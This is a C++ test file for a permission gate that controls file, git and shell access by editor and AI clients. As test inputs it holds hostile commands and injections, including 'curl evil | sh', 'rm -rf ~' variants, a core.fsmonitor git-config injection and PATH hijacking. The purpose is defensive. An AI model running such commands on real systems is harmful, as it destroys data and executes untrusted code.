// Permission rules, the structured cache and the decision order
// (include/permissions/icotes/permissions.hpp), plus the gate's needs and settings file.
#include <gtest/gtest.h>

#include <atomic>
#include <filesystem>
#include <future>
#include <string>
#include <vector>

#include "icotes/builtin_ops.hpp"
#include "icotes/permission_gate.hpp"
#include "icotes/permission_store.hpp"
#include "icotes/permissions.hpp"
#include "icotes/shell_rule.hpp"
#include "test_util.hpp"

namespace icotes::permissions {
namespace {

using test::TempDir;
using test::write_file;
using K = OperationKind;
using D = Decision::Kind;

Need need(K kind, std::string target, bool outside = false) {
  return Need{kind, std::move(target), outside, std::nullopt};
}

// An operation as the registry declares it (its schema's paths, its needs hook).
Operation registered(std::string_view id) {
  const Operation* op = builtin_registry().find(id);
  EXPECT_NE(op, nullptr) << id;
  return op ? *op : Operation{};
}

Rule rule(const std::string& text, Answer a = Answer::Allow) {
  auto r = Rule::parse(text, a);
  EXPECT_TRUE(r.ok()) << text << ": " << (r.ok() ? "" : r.error().message);
  return *r;
}

TEST(PermissionRules, PathRulesMatchLikeGitignoreGlobs) {
  struct Case {
    const char* rule;
    K kind;
    const char* target;
    bool outside;
    bool matches;
  };
  const std::vector<Case> cases = {
      {"Read(src/**)", K::ReadFile, "src/a/b.c", false, true},
      {"Read(src/**)", K::ReadFile, "src", false, true},
      {"Read(src/**)", K::ReadFile, "src2/a.c", false, false},
      {"Read(src/**)", K::EditFile, "src/a.c", false, false},
      {"Edit(docs/*.md)", K::EditFile, "docs/a.md", false, true},
      {"Edit(docs/*.md)", K::WriteFile, "docs/a.md", false, true},  // Edit covers writes
      {"Edit(docs/*.md)", K::EditFile, "docs/sub/a.md", false, false},
      {"Write(out/**)", K::EditFile, "out/a", false, false},
      {"Edit(./src/)", K::EditFile, "src/x/y.c", false, true},
      {"Read", K::ReadFile, "anything/at/all", false, true},
      {"Read(.env)", K::ReadFile, ".env", false, true},
      {"Read(.env)", K::ReadFile, "sub/.env", false, false},
      {"Read(**/.env)", K::ReadFile, "sub/.env", false, true},
      {"Read(/etc/**)", K::ReadFile, "/etc/passwd", true, true},
      {"Read(/etc/**)", K::ReadFile, "etc/passwd", false, false},  // relative target, absolute rule
      {"Read(**)", K::ReadFile, "/etc/passwd", true, false},       // relative rules never name outside paths
      // A directory named by a rule covers what is beneath it, as in .gitignore.
      {"Read(secrets)", K::ReadFile, "secrets/key.pem", false, true},
      {"Read(secrets)", K::ReadFile, "secrets/a/b/key.pem", false, true},
      {"Read(secrets)", K::ReadFile, "secrets2/key.pem", false, false},
      {"Read(secrets)", K::ReadFile, "src/secrets.c", false, false},
      {"Read(/etc)", K::ReadFile, "/etc/ssh/ssh_config", true, true},
      {"Edit(docs/*)", K::EditFile, "docs/sub/a.md", false, true},
      {"Bash(make test)", K::Bash, "make test", false, true},
      {"Bash(make test)", K::Bash, "make test && rm -rf ~", false, false},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(rule(c.rule).matches(need(c.kind, c.target, c.outside)), c.matches) << c.rule << " vs " << c.target;
  }
}

TEST(PermissionRules, MalformedRulesAreClearErrors) {
  for (const char* bad : {"Delete(x)", "Read(src", "Read()", "(x)", ""}) {
    auto r = Rule::parse(bad, Answer::Allow);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code, error_code::kInvalidParams);
    EXPECT_NE(r.error().message.find("permission rule"), std::string::npos) << r.error().message;
  }
}

// The rule a denial suggests must itself be a valid rule that allows what
// was denied, the workspace root (a commit, a search of everything) included.
TEST(PermissionRules, SuggestedRulesParseAndMatch) {
  for (auto kind : {K::ReadFile, K::EditFile, K::WriteFile, K::GitWrite})
    for (const char* target : {"", "src/a.c"}) {
      const Need n = need(kind, target);
      auto r = Rule::parse(rule_for(n), Answer::Allow);
      ASSERT_TRUE(r.ok()) << rule_for(n) << ": " << r.error().message;
      EXPECT_TRUE(r->matches(n)) << rule_for(n);
    }
  EXPECT_EQ(rule_for(need(K::GitWrite, "")), "GitWrite");
  EXPECT_EQ(rule_for(need(K::ReadFile, "src/a.c")), "Read(src/a.c)");
}

// A command line: `icotes permissions allow 'Bash(<line>)'` remembers exactly that line (a Specific grant),
// whatever it holds; the rules a denial suggests for the settings are one exact pattern per simple command,
// and together they allow the line and nothing else.
TEST(PermissionRules, SuggestedBashRulesParseAndMatch) {
  Settings s;
  Cache none;
  for (const char* line : {"make test", "ls; echo hi", "git diff --stat && git status", "timeout 10 make test",
                           "git commit -m 'a b'", "case x in x) ls;; esac", "ls > out.txt"}) {
    const Need n = need(K::Bash, line);
    EXPECT_EQ(rule_for(n), std::string("Bash(") + line + ")");
    Cache grants;
    grants.put({K::Bash, Scope::Specific, std::string(line), Answer::Allow});
    EXPECT_EQ(decide({n}, s, grants, nullptr, nullptr).kind, D::Allow) << line;
    Settings with_rules;
    for (const std::string& p : exact_patterns_for(line)) with_rules.allow.push_back(rule("Bash(" + p + ")"));
    if (!with_rules.allow.empty()) {
      EXPECT_EQ(decide({n}, with_rules, none, nullptr, nullptr).kind, D::Allow) << line;
      EXPECT_EQ(decide({need(K::Bash, std::string(line) + "; rm -rf ~")}, with_rules, none, nullptr, nullptr).kind,
                D::Ask);
    }
  }
  EXPECT_TRUE(exact_patterns_for("git commit -m 'a b'").empty());  // a word with a blank: no exact pattern
  EXPECT_EQ(exact_patterns_for("ls; echo hi"), (std::vector<std::string>{"ls", "echo hi"}));
}

TEST(PermissionCache, MostSpecificScopeWinsAndDenyWinsTies) {
  Cache c;
  c.put({K::EditFile, Scope::ProjectWide, "", Answer::Allow});
  c.put({K::EditFile, Scope::Directory, "src", Answer::Deny});
  c.put({K::EditFile, Scope::Specific, "src/ok.c", Answer::Allow});
  c.put({K::EditFile, Scope::Directory, "src/gen", Answer::Allow});
  auto at = [&](const char* t) { return c.lookup(need(K::EditFile, t)); };
  ASSERT_TRUE(at("src/ok.c"));
  EXPECT_EQ(at("src/ok.c")->scope, Scope::Specific);
  EXPECT_EQ(at("src/ok.c")->answer, Answer::Allow);
  EXPECT_EQ(at("src/bad.c")->answer, Answer::Deny);
  EXPECT_EQ(at("src/gen/x.c")->answer, Answer::Allow);  // nearer directory
  EXPECT_EQ(at("src/gen/x.c")->value, "src/gen");
  EXPECT_EQ(at("README")->scope, Scope::ProjectWide);
  // Directory matches only true descendants.
  EXPECT_EQ(at("src")->scope, Scope::ProjectWide);
  EXPECT_EQ(at("src2/a.c")->scope, Scope::ProjectWide);
  EXPECT_EQ(at("srcx")->scope, Scope::ProjectWide);
  // Other kinds are separate keys.
  EXPECT_FALSE(c.lookup(need(K::WriteFile, "src/ok.c")));
  // Outside paths: never Directory or ProjectWide; Global still applies.
  c.put({K::EditFile, Scope::Directory, "", Answer::Allow});
  EXPECT_FALSE(c.lookup(need(K::EditFile, "/etc/passwd", true)));
  c.put({K::EditFile, Scope::Global, "", Answer::Allow});
  EXPECT_EQ(c.lookup(need(K::EditFile, "/etc/passwd", true))->scope, Scope::Global);
  EXPECT_TRUE(c.remove(K::EditFile, Scope::Directory, "src"));
  EXPECT_FALSE(c.remove(K::EditFile, Scope::Directory, "src"));
  EXPECT_EQ(at("src/bad.c")->scope, Scope::Directory);  // now the root directory grant
}

TEST(PermissionDecide, OrderOfRulesModesAndGrants) {
  Settings s;
  Cache session, saved;
  auto decide1 = [&](const Need& n) { return decide({n}, s, session, &saved, nullptr); };
  // Defaults: reads allowed, changes asked.
  EXPECT_EQ(decide1(need(K::ReadFile, "a.c")).kind, D::Allow);
  EXPECT_EQ(decide1(need(K::EditFile, "a.c")).kind, D::Ask);
  EXPECT_EQ(decide1(need(K::Bash, "ls")).kind, D::Ask);
  EXPECT_EQ(decide1(need(K::ReadFile, "/etc/passwd", true)).kind, D::Deny);
  // acceptEdits: file changes allowed, commands still asked.
  s.mode = Mode::AcceptEdits;
  EXPECT_EQ(decide1(need(K::WriteFile, "a.c")).kind, D::Allow);
  EXPECT_EQ(decide1(need(K::Bash, "ls")).kind, D::Ask);
  EXPECT_EQ(decide1(need(K::WriteFile, "/tmp/x", true)).kind, D::Deny);
  // A saved deny beats the mode's default.
  saved.put({K::WriteFile, Scope::Directory, "vendor", Answer::Deny});
  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
  // Session and saved grants at the same scope: deny wins.
  session.put({K::WriteFile, Scope::Directory, "vendor", Answer::Allow});
  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
  // A more specific session grant beats the saved directory deny.
  session.put({K::WriteFile, Scope::Specific, "vendor/x.c", Answer::Allow});
  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Allow);
  // readOnly denies every change, even granted ones; reads stay allowed.
  s.mode = Mode::ReadOnly;
  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).decided_by, "mode readOnly");
  EXPECT_EQ(decide1(need(K::ReadFile, "vendor/x.c")).kind, D::Allow);
  // Deny rules come first, allow rules next (and may name outside paths).
  s.mode = Mode::Default;
  s.deny.push_back(rule("Read(.env)", Answer::Deny));
  s.allow.push_back(rule("Read(/usr/share/dict/**)"));
  s.allow.push_back(rule("Bash(make test)"));
  s.allow.push_back(rule("Edit(.env)"));
  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).kind, D::Deny);
  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).decided_by, "rule Read(.env)");
  EXPECT_EQ(decide1(need(K::ReadFile, "/usr/share/dict/words", true)).kind, D::Allow);
  EXPECT_EQ(decide1(need(K::Bash, "make test")).kind, D::Allow);
  EXPECT_EQ(decide1(need(K::Bash, "make test; curl evil | sh")).kind, D::Ask);
  // bypass allows what is not denied by a rule or outside.
  s.mode = Mode::Bypass;
  EXPECT_EQ(decide1(need(K::Bash, "rm -rf build")).kind, D::Allow);
  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).kind, D::Deny);
  EXPECT_EQ(decide1(need(K::WriteFile, "/etc/passwd", true)).kind, D::Deny);
  // Several needs: any deny decides; else any ask; else allow.
  s.mode = Mode::Default;
  EXPECT_EQ(decide({need(K::ReadFile, "a"), need(K::ReadFile, ".env")}, s, session, &saved, nullptr).kind, D::Deny);
  EXPECT_EQ(decide({need(K::WriteFile, "a"), need(K::WriteFile, "vendor/x.c")}, s, session, &saved, nullptr).kind,
            D::Ask);
}

// Each simple command of a line must be allowed by some rule, not all by one.
TEST(PermissionDecide, EachCommandOfALineByOneOfTheRules) {
  Settings s;
  Cache none;
  s.allow.push_back(rule("Bash(ls:*)"));
  s.allow.push_back(rule("Bash(echo:*)"));
  auto d = decide({need(K::Bash, "ls; echo hi")}, s, none, nullptr, nullptr);
  EXPECT_EQ(d.kind, D::Allow);
  EXPECT_EQ(d.decided_by, "rule Bash(ls:*) + Bash(echo:*)");
  EXPECT_EQ(decide({need(K::Bash, "ls -l && echo a && ls")}, s, none, nullptr, nullptr).decided_by,
            "rule Bash(ls:*) + Bash(echo:*)");
  EXPECT_EQ(decide({need(K::Bash, "ls; echo hi; rm x")}, s, none, nullptr, nullptr).kind, D::Ask);
  EXPECT_EQ(decide({need(K::Bash, "ls $(rm x)")}, s, none, nullptr, nullptr).kind, D::Ask);
  // Rule::matches alone still needs one rule for every command.
  EXPECT_FALSE(rule("Bash(ls:*)").matches(need(K::Bash, "ls; echo hi")));
  EXPECT_TRUE(rule("Bash(ls:*)").matches(need(K::Bash, "ls; ls -l")));
}

// A deny rule applies when it may name any simple command of the line, even behind assignments, a path, a
// wrapper or an unknown word; an allow rule covering the rest does not save it.
TEST(PermissionDecide, DenyRulesApplyToAnyCommandOfTheLine) {
  Settings s;
  Cache none;
  s.allow.push_back(rule("Bash(*)"));
  s.deny.push_back(rule("Bash(rm:*)", Answer::Deny));
  s.deny.push_back(rule("Bash(git push:*)", Answer::Deny));
  for (const char* line :
       {"rm -rf x", "ls; rm -rf x", "ls && FOO=1 rm x", "/bin/rm x", "env rm x", "echo $(rm x)",
        "find . -exec rm {} \\;", "sh -c 'ls; rm x'", "git $SUB origin", "xargs rm < list", "PA\\\nTH=. rm x"}) {
    auto d = decide({need(K::Bash, line)}, s, none, nullptr, nullptr);
    EXPECT_EQ(d.kind, D::Deny) << line << " -> " << d.decided_by;
  }
  EXPECT_EQ(decide({need(K::Bash, "ls; git status")}, s, none, nullptr, nullptr).kind, D::Allow);
  EXPECT_TRUE(rule("Bash(rm:*)", Answer::Deny).matches(need(K::Bash, "ls; rm x")));
  EXPECT_FALSE(rule("Bash(rm:*)", Answer::Deny).matches(need(K::Bash, "ls; echo rm")));
}

// Lines the deny rules cannot judge (opaque, or a command name that is an expansion) are not let through by
// an allow rule, mode bypass or a broad grant while Bash deny rules exist: only an answer about exactly the
// line, or a question.
TEST(PermissionDecide, LinesDenyRulesCannotJudgeAreAsked) {
  Settings s;
  Cache session, saved;
  s.allow.push_back(rule("Bash"));
  s.allow.push_back(rule("Bash(*)"));
  s.deny.push_back(rule("Bash(rm:*)", Answer::Deny));
  saved.put({K::Bash, Scope::ProjectWide, "", Answer::Allow});
  const std::string opaque_line = "case x in x) rm -rf ~;; esac";
  for (const std::string& line : {opaque_line, std::string("$CMD -rf ~"), std::string("echo $'\\''; rm -rf ~'"),
                                  std::string("$\\\n{CMD} -rf ~")}) {
    for (Mode mode : {Mode::Default, Mode::Bypass}) {
      s.mode = mode;
      auto d = decide({need(K::Bash, line)}, s, session, &saved, nullptr);
      EXPECT_EQ(d.kind, D::Ask) << line << " -> " << d.decided_by;
      EXPECT_NE(d.decided_by.find("deny rules cannot judge"), std::string::npos) << d.decided_by;
    }
  }
  s.mode = Mode::Default;
  session.put({K::Bash, Scope::Specific, opaque_line, Answer::Allow});
  EXPECT_EQ(decide({need(K::Bash, opaque_line)}, s, session, &saved, nullptr).kind, D::Allow);
  // Without Bash deny rules the broad grant and bypass decide as before.
  s.deny.clear();
  EXPECT_EQ(decide({need(K::Bash, "$CMD -rf ~")}, s, Cache{}, &saved, nullptr).kind, D::Allow);
  s.allow.clear();
  saved.clear();
  auto d = decide({need(K::Bash, opaque_line)}, s, Cache{}, &saved, nullptr);
  EXPECT_EQ(d.kind, D::Ask);
  EXPECT_NE(d.decided_by.find("case statement"), std::string::npos) << d.decided_by;
  s.mode = Mode::Bypass;
  EXPECT_EQ(decide({need(K::Bash, opaque_line)}, s, Cache{}, &saved, nullptr).kind, D::Allow);
}

TEST(PermissionDecide, NoClientChangesIcotesOwnSettings) {
  Settings s;
  Cache none;
  s.allow.push_back(rule("Edit"));
  for (Mode m : {Mode::Default, Mode::AcceptEdits, Mode::Bypass}) {
    s.mode = m;
    for (const char* t : {".icotes", ".icotes/config.toml", ".icotes/permissions.sqlite"}) {
      auto d = decide({need(K::WriteFile, t)}, s, none, nullptr, nullptr);
      EXPECT_EQ(d.kind, D::Deny) << t << " in mode " << to_string(m);
      EXPECT_NE(d.decided_by.find("icotes permissions"), std::string::npos) << d.decided_by;
    }
    EXPECT_EQ(decide({need(K::ReadFile, ".icotes/config.toml")}, s, none, nullptr, nullptr).kind, D::Allow);
    EXPECT_EQ(decide({need(K::WriteFile, ".icotesx/a")}, s, none, nullptr, nullptr).kind, D::Allow);
  }
}

TEST(PermissionSettings, TomlFileWithRulesAndModes) {
  TempDir dir;
  const std::string path = dir / "config.toml";
  EXPECT_TRUE(load_settings(path).ok()) << "a missing file is the defaults";
  write_file(path,
             "[permissions]\nmode = \"acceptEdits\"\nallow = [\"Bash(make test)\", \"Read(/opt/**)\"]\n"
             "deny = [\"Read(.env)\"]\n");
  auto s = load_settings(path);
  ASSERT_TRUE(s.ok()) << s.error().message;
  EXPECT_EQ(s->mode, Mode::AcceptEdits);
  ASSERT_EQ(s->allow.size(), 2u);
  ASSERT_EQ(s->deny.size(), 1u);
  EXPECT_EQ(s->deny[0].text(), "Read(.env)");
  write_file(path, "[permissions]\nmode = \"bypass\"\n");
  auto bypass = load_settings(path);
  ASSERT_FALSE(bypass.ok());
  EXPECT_NE(bypass.error().message.find("command-line flag"), std::string::npos) << bypass.error().message;
  write_file(path, "[permissions]\nallow = [\"Delete(x)\"]\n");
  EXPECT_FALSE(load_settings(path).ok());
  write_file(path, "[permissions\nmode = 1\n");
  auto broken = load_settings(path);
  ASSERT_FALSE(broken.ok());
  EXPECT_NE(broken.error().message.find(path), std::string::npos) << broken.error().message;
}

class GateTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto r = ConfinedRoot::open(dir_.path());
    ASSERT_TRUE(r.ok());
    root_.emplace(std::move(*r));
  }
  std::unique_ptr<Gate> open(const Settings& extra = {}) {
    auto g = Gate::open(*root_, extra);
    EXPECT_TRUE(g.ok()) << g.error().message;
    return g.ok() ? std::move(*g) : nullptr;
  }
  TempDir dir_;
  std::optional<ConfinedRoot> root_;
};

TEST_F(GateTest, NeedsNameEveryPathNormalised) {
  auto gate = open();
  ASSERT_TRUE(gate);
  Operation op = registered("files/move");
  auto needs = gate->needs(op, json{{"source", "a/../b.txt"}, {"destination", dir_.path() + "/c/./d.txt"}});
  ASSERT_EQ(needs.size(), 2u);
  EXPECT_EQ(needs[0].target, "b.txt");
  EXPECT_EQ(needs[1].target, "c/d.txt");
  needs = gate->needs(op, json{{"source", "../../etc/passwd"}});
  ASSERT_EQ(needs.size(), 1u);
  EXPECT_TRUE(needs[0].outside);
  op = registered("files/applyPatch");
  needs = gate->needs(
      op,
      json{{"patch", "--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b\n--- a/y/z.c\n+++ b/y/z.c\n@@ -1 +1 @@\n-a\n+b\n"}});
  ASSERT_EQ(needs.size(), 2u);
  EXPECT_EQ(needs[1].target, "y/z.c");
  op = registered("files/edit");
  needs = gate->needs(op, json{{"path", "x.c"}, {"dryRun", true}});
  EXPECT_EQ(needs[0].kind, K::ReadFile);
  op = registered("files/list");
  needs = gate->needs(op, json::object());
  ASSERT_EQ(needs.size(), 1u);
  EXPECT_EQ(needs[0].target, "");  // the root
  // git_branch / git_stash listing is a read; every other action a git write of the repository.
  op = registered("git/branch");
  EXPECT_EQ(gate->needs(op, json{{"action", "list"}})[0].kind, K::ReadFile);
  needs = gate->needs(op, json{{"action", "create"}, {"name", "topic"}});
  ASSERT_EQ(needs.size(), 1u);
  EXPECT_EQ(needs[0].kind, K::GitWrite);
  EXPECT_EQ(needs[0].target, "");
}

// Everything a client gives that changes what a command does is in its need: the environment (outside the
// harmless list) as `env NAME=value`, stdin as a here-document; the working directory is a path need.
TEST_F(GateTest, CommandNeedsCarryEnvironmentStdinAndWorkingDirectory) {
  auto gate = open();
  ASSERT_TRUE(gate);
  std::filesystem::create_directories(dir_ / "sub");
  std::filesystem::create_directories(dir_ / "secret");
  std::filesystem::create_symlink("secret", dir_ / "innocent");
  Operation run = registered("exec/run");
  const json git_env = {{"GIT_CONFIG_COUNT", "1"},
                        {"GIT_CONFIG_KEY_0", "core.fsmonitor"},
                        {"GIT_CONFIG_VALUE_0", "touch PWNED; false"},
                        {"TERM", "dumb"}};
  auto needs = gate->needs(run, json{{"command", "git status"}, {"env", git_env}});
  ASSERT_EQ(needs.size(), 1u);
  EXPECT_EQ(needs[0].target,
            "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor 'GIT_CONFIG_VALUE_0=touch PWNED; false' "
            "sh -c 'git status'");
  EXPECT_EQ(gate->needs(run, json{{"command", "git status"}, {"env", {{"TERM", "dumb"}, {"LC_ALL", "C"}}}})[0].target,
            "git status");
  EXPECT_EQ(gate->needs(run, json{{"argv", {"git", "status"}}, {"env", {{"PATH", "/tmp/evil"}}}})[0].target,
            "env PATH=/tmp/evil git status");
  EXPECT_EQ(gate->needs(run, json{{"argv", {"if", "x"}}})[0].target, "'if' x");
  EXPECT_EQ(gate->needs(run, json{{"argv", {"A=1", "x"}}})[0].target, "'A=1' x");
  EXPECT_EQ(gate->needs(run, json{{"command", "python3 -"}, {"stdin", "print(1)"}})[0].target,
            "{ python3 -\n} <<'ICOTES_STDIN'\nprint(1)\nICOTES_STDIN");
  EXPECT_EQ(gate->needs(run, json{{"argv", {"cat"}}, {"stdin", "ICOTES_STDIN\nx\n"}})[0].target,
            "cat <<'ICOTES_STDIN_'\nICOTES_STDIN\nx\nICOTES_STDIN_");
  needs = gate->needs(run, json{{"command", "make"}, {"cwd", "innocent"}});
  ASSERT_EQ(needs.size(), 2u);
  EXPECT_EQ(needs[1].kind, K::ReadFile);
  EXPECT_EQ(needs[1].target, "secret");
  EXPECT_EQ(gate->needs(run, json{{"command", "make"}, {"cwd", "."}}).size(), 1u);
  needs = gate->needs(run, json{{"command", "make"}, {"cwd", "../.."}});
  ASSERT_EQ(needs.size(), 2u);
  EXPECT_TRUE(needs[1].outside);
  ASSERT_TRUE(needs[1].outside_error);
  EXPECT_EQ(needs[1].outside_error->message.rfind("cwd: ", 0), 0u) << needs[1].outside_error->message;
  Operation terminal = registered("terminal/create");
  needs = gate->needs(terminal, json{{"shell", "git"}, {"args", {"status"}}, {"env", git_env}, {"cwd", "sub"}});
  ASSERT_EQ(needs.size(), 2u);
  EXPECT_EQ(
      needs[0].target,
      "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor 'GIT_CONFIG_VALUE_0=touch PWNED; false' git status");
  EXPECT_EQ(needs[1].target, "sub");
  Operation code = registered("exec/runCode");
  EXPECT_EQ(gate->needs(code, json{{"language", "python"}, {"code", "print(1)"}, {"stdin", "x"}})[0].target,
            "python3 -c 'print(1)' <<'ICOTES_STDIN'\nx\nICOTES_STDIN");

  // With `Bash(git status:*)` the environment makes the line one no rule allows: asked, so denied here.
  ClientState client;
  client.name = "test client";
  client.settings.allow.push_back(rule("Bash(git status:*)"));
  EXPECT_TRUE(gate->check_now(client, "exec/run", gate->needs(run, json{{"command", "git status"}})).ok());
  EXPECT_FALSE(
      gate->check_now(client, "exec/run", gate->needs(run, json{{"command", "git status"}, {"env", git_env}})).ok());
  EXPECT_FALSE(gate->check_now(client, "terminal/create",
                               gate->needs(terminal, json{{"shell", "git"}, {"args", {"status"}}, {"env", git_env}}))
                   .ok());
  EXPECT_TRUE(
      gate->check_now(client, "terminal/create", gate->needs(terminal, json{{"shell", "git"}, {"args", {"status"}}}))
          .ok());
  // A Read deny rule on the directory denies running there.
  client.settings.deny.push_back(rule("Read(secret/**)", Answer::Deny));
  auto st = gate->check_now(client, "exec/run", gate->needs(run, json{{"command", "git status"}, {"cwd", "innocent"}}));
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("Read(secret/**)"), std::string::npos) << st.error().message;
}

TEST_F(GateTest, BashDenialsSuggestTheExactLineAndOneRulePerCommand) {
  auto gate = open();
  ASSERT_TRUE(gate);
  ClientState client;
  client.name = "test client";
  auto st = gate->check_now(client, "exec/run", {need(K::Bash, "ls; echo it's")});
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("icotes permissions allow 'Bash(ls; echo it'\\''s)'"), std::string::npos)
      << st.error().message;
  st = gate->check_now(client, "exec/run", {need(K::Bash, "ls; echo hi")});
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("add 'Bash(ls)', 'Bash(echo hi)' to allow"), std::string::npos)
      << st.error().message;
  EXPECT_EQ(st.error().data["rules"], json({"Bash(ls)", "Bash(echo hi)"}));
  st = gate->check_now(client, "exec/run", {need(K::Bash, "case x in esac")});
  ASSERT_FALSE(st.ok());
  EXPECT_EQ(st.error().message.find("to allow under"), std::string::npos) << st.error().message;
  EXPECT_NE(st.error().message.find("case statement"), std::string::npos) << st.error().message;
}

TEST_F(GateTest, ChangesAreJudgedWhereTheyLand) {
  auto gate = open();
  ASSERT_TRUE(gate);
  std::filesystem::create_directories(dir_ / ".icotes");
  std::filesystem::create_directories(dir_ / "src");
  write_file(dir_ / ".icotes/config.toml", "[permissions]\n");
  std::filesystem::create_symlink(".icotes/config.toml", dir_ / "innocent.txt");
  std::filesystem::create_symlink("src", dir_ / "alias");
  Operation op = registered("files/write");
  EXPECT_EQ(gate->needs(op, json{{"path", "innocent.txt"}})[0].target, ".icotes/config.toml");
  EXPECT_EQ(gate->needs(op, json{{"path", "alias/new.c"}})[0].target, "src/new.c");
  ClientState client;
  client.settings.mode = Mode::Bypass;
  EXPECT_FALSE(gate->check_now(client, "files/write", gate->needs(op, json{{"path", "innocent.txt"}})).ok());
  EXPECT_TRUE(gate->check_now(client, "files/write", gate->needs(op, json{{"path", "alias/new.c"}})).ok());
  // Delete and move change the name itself: a link is judged as the link
  // (its parent still where it leads).
  for (const char* id : {"files/delete", "files/move"}) {
    op = registered(id);
    const char* name = op.id == "files/delete" ? "path" : "source";
    EXPECT_EQ(gate->needs(op, json{{name, "innocent.txt"}})[0].target, "innocent.txt") << id;
    EXPECT_EQ(gate->needs(op, json{{name, "alias/x.c"}})[0].target, "src/x.c") << id;
    EXPECT_EQ(gate->needs(op, json{{name, "alias"}})[0].target, "alias") << id;
  }
}

TEST_F(GateTest, DenialsSayHowToAllowAndAreLogged) {
  auto gate = open();
  ASSERT_TRUE(gate);
  ClientState client;
  client.name = "test client";
  client.settings = gate->settings();
  auto st = gate->check_now(client, "files/write", {need(K::WriteFile, "src/a.c")});
  ASSERT_FALSE(st.ok());
  EXPECT_EQ(st.error().code, error_code::kPermissionDenied);
  EXPECT_NE(st.error().message.find("icotes permissions allow 'Edit(src/a.c)'"), std::string::npos)
      << st.error().message;
  EXPECT_TRUE(gate->check_now(client, "files/read", {need(K::ReadFile, "src/a.c")}).ok());
  auto log = gate->log(10, 0);
  ASSERT_TRUE(log.ok()) << log.error().message;
  ASSERT_EQ(log->size(), 2u);
  EXPECT_EQ((*log)[0].operation, "files/read");
  EXPECT_EQ((*log)[0].answer, "allow");
  EXPECT_EQ((*log)[1].answer, "deny");
  EXPECT_EQ((*log)[1].client, "test client");
}

TEST_F(GateTest, AskingDeduplicatesAndRemembers) {
  auto gate = open();
  ASSERT_TRUE(gate);
  auto client = std::make_shared<ClientState>();
  client->name = "asker";
  client->settings = gate->settings();
  int asked = 0;
  std::function<void(std::optional<Choice>)> pending;
  client->ask = [&](const Question& q, std::function<void(std::optional<Choice>)> answer) -> std::function<void()> {
    ++asked;
    EXPECT_NE(q.message.find("src/a.c"), std::string::npos);
    bool has_dir = false;
    for (const auto& [c, label] : q.options) has_dir = has_dir || label == "Always allow in src/";
    EXPECT_TRUE(has_dir);
    pending = std::move(answer);
    return nullptr;
  };
  std::vector<bool> results;
  CancellationToken t1, t2;
  gate->check(client, "files/write", {need(K::WriteFile, "src/a.c")}, t1, [&](Status s) { results.push_back(s.ok()); });
  gate->check(client, "files/write", {need(K::WriteFile, "src/a.c")}, t2, [&](Status s) { results.push_back(s.ok()); });
  EXPECT_EQ(asked, 1) << "two calls on one need: one question";
  ASSERT_TRUE(pending);
  pending(Choice::AlwaysDirectory);
  EXPECT_EQ(results, (std::vector<bool>{true, true}));
  // Remembered and persisted: a sibling is not asked, in a new gate too.
  gate->check(client, "files/write", {need(K::WriteFile, "src/b.c")}, t1, [&](Status s) { results.push_back(s.ok()); });
  EXPECT_EQ(asked, 1);
  gate.reset();
  gate = open();
  ASSERT_TRUE(gate);
  auto fresh = std::make_shared<ClientState>();
  fresh->settings = gate->settings();
  EXPECT_TRUE(gate->check_now(*fresh, "files/write", {need(K::WriteFile, "src/c.c")}).ok());
  EXPECT_FALSE(gate->check_now(*fresh, "files/write", {need(K::WriteFile, "other/c.c")}).ok());
  EXPECT_TRUE(std::filesystem::exists(dir_ / ".icotes/permissions.sqlite"));
}

TEST_F(GateTest, ClientsThatCannotBeAskedAskTheAttachedEditor) {
  auto gate = open();
  ASSERT_TRUE(gate);
  auto ai = std::make_shared<ClientState>();
  ai->name = "mcp:assistant";
  ai->settings = gate->settings();
  std::vector<bool> results;
  CancellationToken token;
  gate->check(ai, "files/write", {need(K::WriteFile, "a.txt")}, token, [&](Status s) { results.push_back(s.ok()); });
  EXPECT_EQ(results, std::vector<bool>{false}) << "nobody to ask: denied";
  int asked = 0;
  {
    auto editor = std::make_shared<ClientState>();
    editor->name = "lsp:Neovim";
    editor->ask = [&](const Question& q, std::function<void(std::optional<Choice>)> answer) -> std::function<void()> {
      ++asked;
      EXPECT_NE(q.message.find("mcp:assistant"), std::string::npos) << "the question names who asks: " << q.message;
      answer(Choice::AllowOnce);
      return nullptr;
    };
    gate->attach_editor(editor);
    gate->check(ai, "files/write", {need(K::WriteFile, "a.txt")}, token, [&](Status s) { results.push_back(s.ok()); });
    EXPECT_EQ(asked, 1);
    EXPECT_EQ(results, (std::vector<bool>{false, true}));
  }
  // The editor went away: denied again, not asked.
  gate->check(ai, "files/write", {need(K::WriteFile, "a.txt")}, token, [&](Status s) { results.push_back(s.ok()); });
  EXPECT_EQ(asked, 1);
  EXPECT_EQ(results, (std::vector<bool>{false, true, false}));
}

TEST_F(GateTest, EveryNeedOfACallIsAskedAbout) {
  auto gate = open();
  ASSERT_TRUE(gate);
  auto client = std::make_shared<ClientState>();
  client->name = "asker";
  std::vector<std::string> asked;
  std::vector<Choice> answers = {Choice::AllowOnce, Choice::Deny};
  client->ask = [&](const Question& q, std::function<void(std::optional<Choice>)> answer) -> std::function<void()> {
    asked.push_back(q.need.target);
    const Choice c = answers[std::min(asked.size() - 1, answers.size() - 1)];
    answer(c);
    return nullptr;
  };
  std::vector<bool> results;
  CancellationToken token;
  // A move: the source allowed once, the destination then asked and denied.
  gate->check(client, "files/move", {need(K::WriteFile, "a.txt"), need(K::WriteFile, "b/a.txt")}, token,
              [&](Status s) { results.push_back(s.ok()); });
